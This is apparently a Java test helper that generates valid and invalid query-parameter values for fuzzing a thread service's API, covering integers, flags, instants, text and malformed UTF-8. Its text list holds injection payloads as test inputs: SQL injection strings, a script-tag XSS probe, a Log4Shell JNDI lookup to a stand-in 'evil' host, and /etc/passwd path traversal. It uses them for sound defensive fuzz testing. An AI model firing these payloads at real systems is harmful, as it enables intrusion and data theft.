package dev.threadline.localstack;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Generated values of query parameters and text path variables for the fuzz suites of the thread service and
 * stats-streams, each marked valid or not by the rules README.md documents for both ("Query parameters"): integers
 * whole, in decimal ASCII digits and in range; booleans exactly {@code true}/{@code false}; names exactly one of
 * theirs; instants ISO-8601 from 1970 to 9999; text 1 to its maximum characters, not blank, without control
 * characters; everything percent-encoded UTF-8.
 */
public final class QueryValues {

    /** A value as it goes into the URL (percent-encoded), whether the API must take it, and what it is. */
    public record Value(String encoded, boolean valid, String description) {

        @Override
        public String toString() {
            return description + " (" + (valid ? "valid" : "invalid") + "): " + shorten(encoded);
        }
    }

    /** Text that is valid anywhere text is: SQL, tsquery, JSON and HTML syntax, scripts, Unicode, reserved URL characters. */
    public static final List<String> TEXTS = List.of("parcel", "' OR '1'='1", "\"; DROP TABLE messages; --", "parcel & !refund | (x",
            "a:* <-> b", "\\", "'", "\"", "-", "or", "{\"$gt\": \"\"}", "<script>alert(1)</script>", "${jndi:ldap://evil/a}",
            "../../etc/passwd", "%", "+", "a&b=c", "#frag", "?", "日本語", "emoji \uD83D\uDE00", "\u202Eevil", "\uFEFFbom", "\uFFFD");
    /** Percent-encoded bytes that are no UTF-8: invalid, overlong, a surrogate, beyond U+10FFFF. */
    public static final List<String> NOT_UTF8 = List.of("%FF", "%C3%28", "%80", "%C0%AF", "%C0%80", "%E0%80%AF", "%ED%A0%80", "%F4%90%80%80");
    private static final List<String> NOT_INTEGERS = List.of("", " ", "abc", "1.5", "1e3", "+5", " 5", "5 ", "0x10", "٣", "１", "5a", "--1",
            "99999999999999999999", "-99999999999999999999", "NaN", "Infinity", "true");
    private static final List<String> NOT_INSTANTS = List.of("-999999999-01-01T00:00:00Z", "+1000000000-01-01T00:00:00Z",
            "0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "+10000-01-01T00:00:00Z", "yesterday", "", "2026-02-30T00:00:00Z",
            "2026-01-01", "2026-01-01T00:00:00", "1700000000", "now");
    private static final Instant LATEST = Instant.parse("9999-12-31T23:59:59Z");

    private QueryValues() {
    }

    public static Arbitrary<Value> integer(long min, long max) {
        return Arbitraries.oneOf(
                Arbitraries.longs().between(min, max).map(n -> new Value(Long.toString(n), true, "in range")),
                Arbitraries.longs().between(Long.MIN_VALUE, min - 1).map(n -> new Value(Long.toString(n), false, "below range")),
                max == Long.MAX_VALUE ? Arbitraries.just(new Value("9223372036854775808", false, "above range"))
                        : Arbitraries.longs().between(max + 1, Long.MAX_VALUE).map(n -> new Value(Long.toString(n), false, "above range")),
                Arbitraries.of(NOT_INTEGERS).map(text -> new Value(encode(text), false, "not an integer")),
                invalid());
    }

    public static Arbitrary<Value> flag() {
        return Arbitraries.oneOf(
                Arbitraries.of("true", "false").map(text -> new Value(text, true, "a flag")),
                Arbitraries.of("TRUE", "True", "1", "0", "yes", "", "t", " true").map(text -> new Value(encode(text), false, "not a flag")),
                invalid());
    }

    public static Arbitrary<Value> name(List<String> names) {
        return Arbitraries.oneOf(
                Arbitraries.of(names).map(name -> new Value(encode(name), true, "a name")),
                Arbitraries.of(names).flatMap(name -> Arbitraries.of(name.toUpperCase(), " " + name, name + "x", ""))
                        .filter(text -> !names.contains(text)).map(text -> new Value(encode(text), false, "not a name")),
                invalid());
    }

    public static Arbitrary<Value> text(int maxLength) {
        return Arbitraries.oneOf(
                Arbitraries.of(TEXTS).map(text -> new Value(encode(text), true, "text")),
                Arbitraries.strings().ofMinLength(1).ofMaxLength(40).withCharRange('!', '~').map(text -> new Value(encode(text), true, "ASCII text")),
                Arbitraries.just(new Value("t".repeat(maxLength), true, "text of the largest length")),
                Arbitraries.just(new Value("t".repeat(maxLength + 1), false, "text a character too long")),
                Arbitraries.of("", " ", "\t").map(text -> new Value(encode(text), false, "blank")),
                Arbitraries.of("a\u0000b", "\u0001", "a\u007Fb", "a\u0085b", "line\nbreak").map(text ->
                        new Value(encode(text), false, "with a control character")),
                invalid());
    }

    /** Instants from 1970 to 9999, and what is not one. */
    public static Arbitrary<Value> instant() {
        return Arbitraries.oneOf(
                Arbitraries.longs().between(0, LATEST.getEpochSecond()).map(s -> new Value(Instant.ofEpochSecond(s).toString(), true, "instant")),
                Arbitraries.of(NOT_INSTANTS).map(text -> new Value(encode(text), false, "not an instant in 1970..9999")),
                invalid());
    }

    /** What no parameter takes: bytes that are not UTF-8. */
    public static Arbitrary<Value> invalid() {
        return Arbitraries.of(NOT_UTF8).map(bytes -> new Value("a" + bytes + "b", false, "not UTF-8"));
    }

    /** Percent-encoding of the UTF-8 bytes of {@code text}, spaces as %20. */
    public static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The percent-encoding of arbitrary bytes. */
    public static String encode(byte[] bytes) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : bytes) {
            encoded.append('%').append(HexFormat.of().withUpperCase().toHexDigits(b));
        }
        return encoded.toString();
    }

    private static String shorten(String text) {
        return text.length() <= 120 ? text : text.substring(0, 120) + "… (" + text.length() + " chars)";
    }
}
